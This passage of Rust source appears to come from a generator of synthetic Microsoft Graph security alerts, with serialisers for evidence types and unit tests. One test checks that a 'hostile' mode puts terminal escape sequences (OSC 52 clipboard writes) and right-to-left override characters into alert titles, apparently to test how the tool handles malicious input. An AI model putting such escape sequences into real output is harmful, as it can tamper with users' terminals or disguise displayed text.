        });
    }

    fn write(&self, arr: &mut super::json::Arr<'_>, kind: &str, rng: &mut Rng) {
        let c = self.ctx;
        arr.obj(|o| match kind {
            "device" => {
                self.base(o, "device", &["compromised"], &["Main device"], rng);
                let h = &c.host;
                o.time("firstSeenDateTime", h.first_seen)
                    .str("mdeDeviceId", &h.mde_id)
                    .str("azureAdDeviceId", &h.aad_id)
                    .str("deviceDnsName", &h.fqdn)
                    .str("hostName", &h.name)
                    .str("ntDomain", self.ctx.netbios)
                    .str("dnsDomain", self.ctx.org_domain)
                    .str("osPlatform", &h.os.0);
                // Non-Windows devices report no build number.
                match h.os.1.parse::<i64>().ok().filter(|&b| b > 0) {
                    Some(build) => o.int("osBuild", build),
                    None => o.null("osBuild"),
                };
                o
                    .str("version", &h.os.2)
                    .str("healthStatus", "active")
                    .str("riskScore", if self.malicious { "high" } else { "medium" })
                    .int("rbacGroupId", h.rbac.0)
                    .str("rbacGroupName", &h.rbac.1)
                    .str("onboardingStatus", "onboarded")
                    .str("defenderAvStatus", "updated")
                    .strs("ipInterfaces", std::slice::from_ref(&h.ip))
                    .str("lastIpAddress", &h.ip)
                    .str("lastExternalIpAddress", &c.ext_ip)
                    .objs("loggedOnUsers", &[&c.user], |o, u| {
                        o.str("accountName", &u.account).str("domainName", self.ctx.netbios);
                    })
                    .null("vmMetadata");
            }
            "user" => {
                self.base(o, "user", &["compromised"], &[], rng);
                self.user_account(o);
            }
            "ip" => {
                self.base(o, "ip", &["attacker"], &[], rng);
                let k = c.country;
                o.str("ipAddress", &c.ext_ip)
                    .str("countryLetterCode", &k.code)
                    .obj("location", |o| {
                        o.str("city", &k.city)
                            .str("countryName", &k.name)
                            .float("latitude", k.lat)
                            .float("longitude", k.lon)
                            .str("state", &k.state);
                    });
            }
            "url" => {
                self.base(o, "url", &["commandAndControl"], &[], rng);
                o.str("url", &c.url);
            }
            "file" => {
                self.base(o, "file", &[], &["Referred in command line"], rng);
                o.str("detectionStatus", "detected")
                    .str("mdeDeviceId", &c.host.mde_id);
                self.file_details(o, "fileDetails", c.file, self.file_name);
            }
            "process" => {
                self.base(o, "process", &[], &[], rng);
                let pid = 1000 + rng.below(60_000) as i64;
                let ppid = 4 + rng.below(1000) as i64;
                o.int("processId", pid)
                    .int("parentProcessId", ppid)
                    .str("processCommandLine", self.command_line)
                    .time("processCreationDateTime", self.created)
                    .time(
                        "parentProcessCreationDateTime",
                        self.created - Duration::minutes(1 + rng.below(600) as i64),
                    )
                    .str("detectionStatus", "detected")
                    .str("mdeDeviceId", &c.host.mde_id);
                self.file_details(o, "imageFile", c.file, self.file_name);
                self.file_details(o, "parentProcessImageFile", c.parent, &c.parent.name);
                self.user_account(o);
            }
            "mailbox" => {
                self.base(o, "mailbox", &["contextual"], &[], rng);
                o.str("displayName", &c.user.display)
                    .str("primaryAddress", &c.user.upn)
                    .str("upn", &c.user.upn);
                self.user_account(o);
            }
            "registryKey" => {
                self.base(o, "registryKey", &[], &[], rng);
                o.str("registryKey", &c.registry.1)
                    .str("registryHive", &c.registry.0);
            }
            "registryValue" => {
                self.base(o, "registryValue", &[], &[], rng);
                o.str("mdeDeviceId", &c.host.mde_id)
                    .str("registryHive", &c.registry.0)
                    .str("registryKey", &c.registry.1)
                    .str("registryValue", &c.registry.3)
                    .str("registryValueName", &c.registry.2)
                    .str("registryValueType", "String");
            }
            "analyzedMessage" => {
                self.base(o, "analyzedMessage", &[], &[], rng);
                let h = hash_str(0, &format!("{}{}", c.incident_id, self.subject));
                let (sender_name, sender_addr) = c.sender;
                let sender_domain = sender_addr.rsplit('@').next().unwrap_or(sender_addr);
                o.str("antiSpamDirection", "Inbound")
                    .int("attachmentsCount", (h % 2) as i64)
                    .str("deliveryAction", "Delivered")
                    .str("deliveryLocation", "Inbox/folder")
                    .str(
                        "internetMessageId",
                        &format!("<{}@{}>", hex(h, 24), sender_domain),
                    )
                    .str("language", "en")
                    .str("networkMessageId", &guid(h))
                    .obj("p1Sender", |o| {
                        o.str("displayName", sender_name)
                            .str("domainName", sender_domain)
                            .str("emailAddress", sender_addr);
                    })
                    .obj("p2Sender", |o| {
                        o.str("displayName", sender_name)
                            .str("domainName", sender_domain)
                            .str("emailAddress", sender_addr);
                    })
                    .time("receivedDateTime", self.created - Duration::minutes(3))
                    .str("recipientEmailAddress", &c.user.upn)
                    .str("senderIp", &c.ext_ip)
                    .str("subject", self.subject)
                    .strs("threatDetectionMethods", &["URL detonation reputation"])
                    .strs("threats", &["Phish"])
                    .int("urlCount", 1)
                    .strs("urls", std::slice::from_ref(&c.url))
                    .str(
                        "urn",
                        &format!("urn:MailEntity:{}", hex(h ^ 7, 32)),
                    );
            }
            "cloudApplication" => {
                self.base(o, "cloudApplication", &["contextual"], &[], rng);
                o.int("appId", c.cloud_app.1)
                    .str("displayName", &c.cloud_app.0)
                    .int("instanceId", 0)
                    .null("instanceName")
                    .int("saasAppId", c.cloud_app.1);
            }
            "oauthApplication" => {
                self.base(o, "oauthApplication", &["contextual"], &[], rng);
                let h = hash_str(0, &c.oauth_app.0);
                o.str("appId", &guid(h))
                    .str("displayName", &c.oauth_app.0)
                    .str("objectId", &guid(h ^ 3))
                    .str("publisher", &c.oauth_app.1);
            }
            "azureResource" => {
                self.base(o, "azureResource", &["attacked"], &[], rng);
                let (rtype, name) = c.azure;
                let sub = guid(hash_str(0, &self.ctx.tenant));
                o.str(
                    "resourceId",
                    &format!("/subscriptions/{sub}/resourceGroups/rg-contoso-prod/providers/{rtype}/{name}"),
                )
                .str("resourceName", name)
                .str("resourceType", rtype.rsplit('/').next().unwrap_or(rtype));
            }
            other => {
                // Unknown kinds are caught by the vocabulary test; emit a plain base object.
                self.base(o, other, &[], &[], rng);
            }
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use time::macros::datetime;

    fn cfg(alerts: usize, hostile: bool) -> GenConfig {
        GenConfig {
            alerts,
            seed: 42,
            now: datetime!(2026-11-26 12:00 UTC),
            hostile,
        }
    }

    #[test]
    fn deterministic_per_seed() {
        let a = generate(&cfg(200, false)).unwrap();
        let b = generate(&cfg(200, false)).unwrap();
        assert_eq!(a.len(), 200);
        let ja: Vec<String> = a.iter().map(|r| r.to_json(true)).collect();
        let jb: Vec<String> = b.iter().map(|r| r.to_json(true)).collect();
        assert_eq!(ja, jb);
        let c = generate(&GenConfig {
            seed: 7,
            ..cfg(200, false)
        })
        .unwrap();
        assert_ne!(ja[0], c[0].to_json(true));
    }

    #[test]
    fn alerts_parse_and_are_varied() {
        let now = cfg(0, false).now;
        let alerts = generate(&cfg(600, false)).unwrap();
        let mut sources = HashSet::new();
        let mut severities = HashSet::new();
        let mut kinds = HashSet::new();
        let mut statuses = HashSet::new();
        let mut incidents = std::collections::HashMap::<String, usize>::new();
        for r in &alerts {
            let json = r.to_json(true);
            let a = crate::graph::models::Alert::from_json(&json).unwrap();
            assert!(!a.title.clone().unwrap_or_default().is_empty());
            assert!(
                !json.chars().any(|c| c.is_control()),
                "raw control char in {json}"
            );
            for placeholder in ["{account}", "{url}", "{domain}", "{host}", "{n}", "{b64:"] {
                assert!(!json.contains(placeholder), "{placeholder} left in {json}");
            }
            let created = a.created.unwrap();
            assert!(created <= now && created >= now - Duration::days(WINDOW_DAYS));
            assert!(a.last_update.unwrap() >= created);
            assert!(a.first_activity.unwrap() <= a.last_activity.unwrap());
            assert_eq!(a.resolved.is_some(), r.status == AlertStatus::Resolved);
            sources.insert(r.service_source.clone());
            severities.insert(r.severity.clone());
            statuses.insert(r.status.clone());
            for e in &a.evidence {
                kinds.insert(e.kind().to_owned());
            }
            *incidents.entry(a.incident_id.unwrap()).or_default() += 1;
        }
        assert!(sources.len() >= 13, "{sources:?}");
        assert_eq!(severities.len(), 4, "{severities:?}");
        assert_eq!(statuses.len(), 3);
        for k in ["device", "user", "ip", "url", "file", "process", "mailbox"] {
            assert!(kinds.contains(k), "{k} missing from {kinds:?}");
        }
        assert!(kinds.len() >= 10);
        assert!(
            incidents.values().any(|&n| n >= 3),
            "no multi-alert incidents"
        );
        assert!(alerts.iter().any(|a| a.assigned_to.is_some()));
        assert!(alerts.iter().any(|a| !a.comments.is_empty()));
        let titles: Vec<String> = alerts.iter().map(|a| a.to_json(true)).collect();
        assert!(titles.iter().any(|t| t.contains("可疑")));
        assert!(titles.iter().any(|t| t.contains('💸')));
        assert!(titles.iter().any(|t| t.len() > 12_000));
    }

    #[test]
    fn hostile_tenant_adds_control_characters() {
        let plain = generate(&cfg(50, false)).unwrap();
        let hostile = generate(&cfg(50, true)).unwrap();
        assert!(hostile.len() > plain.len());
        let decoded: Vec<crate::graph::models::Alert> = hostile
            .iter()
            .map(|r| crate::graph::models::Alert::from_json(&r.to_json(true)).unwrap())
            .collect();
        let titles: Vec<String> = decoded.iter().filter_map(|a| a.title.clone()).collect();
        assert!(titles.iter().any(|t| t.contains("\u{1b}]52;")));
        assert!(titles.iter().any(|t| t.contains('\u{202e}')));
        assert!(titles.iter().any(|t| t.chars().count() == 5000));
    }

    #[test]
    fn ids_are_unique_at_scale() {
        let alerts = generate(&cfg(20_000, false)).unwrap();
        let ids: HashSet<&str> = alerts.iter().map(|a| &*a.id).collect();
        assert_eq!(ids.len(), alerts.len());
    }
}
